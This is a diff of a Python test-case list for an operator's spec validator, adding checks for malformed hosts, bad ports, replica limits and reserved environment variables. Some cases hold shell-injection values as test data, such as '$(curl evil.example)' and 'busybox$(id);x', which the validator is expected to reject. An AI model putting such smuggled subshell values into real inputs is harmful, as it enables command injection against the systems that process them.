@@ -174,7 +174,7 @@ case(
     "huge-statefulset-name",
     "a 60-character StatefulSet name",
     _set("mysql.name", "m" * 60),
-    "invalid-spec: a StatefulSet name may have at most 52 characters",
+    "rejected: spec.mysql.name: a StatefulSet name may have at most 52 characters",
 )
 # -- unicode and uppercase ---------------------------------------------------------------------------------
 case("name-uppercase", "an uppercase name", _set("auth.name", "Auth"), "rejected: spec.auth.name in body should match")
@@ -282,7 +282,7 @@ case(
     "thirdparty-url-ftp",
     "a url of another scheme",
     _set("uuc.thirdParty.url", "ftp://x.example"),
-    "invalid-spec: spec.uuc.thirdParty.url",
+    "rejected: spec.uuc.thirdParty.url",
 )
 case(
     "mysql-daemonset",
@@ -368,7 +368,7 @@ case(
     "inject-url-subshell",
     "a thirdParty.url with $(…)",
     _set("uuc.thirdParty.url", "$(curl evil.example)"),
-    "invalid-spec: spec.uuc.thirdParty.url",
+    "rejected: spec.uuc.thirdParty.url",
 )
 case("inject-image-subshell", "an image with $(…) and ; (no blank)", _set("auth.image", "busybox$(id);x"),
      "rejected: spec.auth.image in body should match")
@@ -390,6 +390,109 @@ case(
     _set("mysql.storage", {"size": "-1Gi"}),
     "rejected: spec.mysql.storage.size",
 )
+# -- check addresses that crashed the parser or the probe (issue 12, findings 2 and 3) --------------------
+case(
+    "addr-checkcmd-bracket-host",
+    "curl to http://[zz]/ (urlsplit raised ValueError)",
+    _set("uuc.thirdParty", {"checkCMD": "curl http://[zz]/"}),
+    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL 'http://[zz]/' is not a valid URL",
+)
+case(
+    "addr-url-bracket-host",
+    "thirdParty.url http://[zz]/",
+    _set("uuc.thirdParty", {"url": "http://[zz]/"}),
+    "rejected: spec.uuc.thirdParty.url",
+)
+case(
+    "addr-check-http-bracket-host",
+    "check.http.url http://[zz]/",
+    _set("uuc.thirdParty", {"check": {"http": {"url": "http://[zz]/"}}}),
+    "rejected: spec.uuc.thirdParty.check.http.url",
+)
+case(
+    "addr-checkcmd-port-0",
+    "curl to port 0 without a url (resolve raised CheckError)",
+    _set("uuc.thirdParty", {"checkCMD": "curl http://h:0/"}),
+    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL port must be a number from 1 to 65535, got 0",
+)
+case(
+    "addr-checkcmd-fullwidth-host",
+    "curl to a host in full-width letters (the probe raised InvalidURL)",
+    _set("uuc.thirdParty", {"checkCMD": "curl --head --fail http://ｅｘａｍｐｌｅ.com/"}),
+    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL must be ASCII",
+)
+case(
+    "addr-nc-empty-label",
+    "nc to a non-ASCII host with an empty label (the probe raised IDNAError)",
+    _set("uuc.thirdParty", {"checkCMD": "nc -z ä..b 3306"}),
+    "invalid-spec: spec.uuc.thirdParty.checkCMD: nc host 'ä..b' must be ASCII",
+)
+case(
+    "addr-url-empty-label",
+    "thirdParty.url ä..b:80",
+    _set("uuc.thirdParty", {"url": "ä..b:80"}),
+    "rejected: spec.uuc.thirdParty.url",
+)
+case(
+    "addr-tcp-empty-label",
+    "check.tcp.host a..b",
+    _set("uuc.thirdParty", {"check": {"tcp": {"host": "a..b", "port": 80}}}),
+    "rejected: spec.uuc.thirdParty.check.tcp.host",
+)
+case(
+    "addr-url-port-65536",
+    "thirdParty.url with port 65536",
+    _set("uuc.thirdParty", {"url": "http://x.example:65536/"}),
+    "rejected: spec.uuc.thirdParty.url",
+)
+case(
+    "addr-checkcmd-idna-ascii",
+    "curl to an internationalised host in its xn-- form (valid)",
+    _set("uuc.thirdParty", {"checkCMD": "curl --head --fail http://xn--bcher-kva.example/"}),
+    "accepted",
+)
+# -- offline and admission give one verdict (issue 12, finding 8) ------------------------------------------
+case("type-insecure-string", "check.http.insecure as a string", _set(
+    "uuc.thirdParty", {"check": {"http": {"url": "https://x.example", "insecure": "true"}}}),
+    "rejected: spec.uuc.thirdParty.check.http.insecure")
+case("metadata-name-64", "a 64-character metadata.name", None, "rejected: metadata.name must be a DNS label")
+case("metadata-name-dot", "a metadata.name with a dot", None, "rejected: metadata.name must be a DNS label")
+case(
+    "mysql-deployment-replica-1000",
+    "mysql as a Deployment with 1000 pods on one ReadWriteOnce claim",
+    _all(_set("mysql.kind", 0), _set("mysql.replica", 1000)),
+    "rejected: spec.mysql.replica: at most 1 with kind 0 (Deployment)",
+)
+case(
+    "mysql-deployment-replica-2",
+    "mysql as a Deployment with 2 pods on one claim",
+    _all(_set("mysql.kind", 0), _set("mysql.replica", 2)),
+    "rejected: spec.mysql.replica: at most 1 with kind 0 (Deployment)",
+)
+case(
+    "mysql-statefulset-replica-3",
+    "mysql as a StatefulSet of 3 (a claim per pod)",
+    _set("mysql.replica", 3),
+    "accepted",
+)
+case(
+    "env-operator-mysql-password",
+    "mysql env repeats MYSQL_PASSWORD, which the operator sets",
+    _set("mysql.env", {"MYSQL_PASSWORD": "x"}),
+    "rejected: spec.mysql.env: these names are set by the operator itself",
+)
+case(
+    "env-operator-datasource-password",
+    "a microservice env repeats SPRING_DATASOURCE_PASSWORD",
+    _set(f"{MS}.env", {"SPRING_DATASOURCE_PASSWORD": "x"}),
+    "rejected: spec.api-manager.env: these names are set by the operator itself",
+)
+case(
+    "huge-files-total",
+    "files over 256 KiB in all (UTF-8: 87,382 three-byte characters)",
+    _set("trd-adapter.files", {"main.py": "中" * 87382}),
+    "rejected: files may hold at most 262144 bytes",
+)
 case(
     "ready-injections-inert",
     "every free string field carries shell syntax: the valid sample, Ready",
@@ -407,6 +510,8 @@ RAW: dict[str, Callable[[str], str]] = {
     "null-spec": lambda t: re.sub(r"(?s)\nspec:\n.*", "\nspec: null\n", t),
     "metadata-name-uppercase": lambda t: t.replace("name: metadata-name-uppercase", "name: DataService-X", 1),
     "inject-metadata-name": lambda t: t.replace("name: inject-metadata-name", "name: x$(id)", 1),
+    "metadata-name-64": lambda t: t.replace("name: metadata-name-64", "name: " + "m" * 64, 1),
+    "metadata-name-dot": lambda t: t.replace("name: metadata-name-dot", "name: data.service", 1),
     "dup-yaml-key": lambda t: t.replace(
         "\n  auth:\n", "\n  auth:\n    name: auth\n    image: a:b\n    port: 1\n  auth:\n", 1
     ),
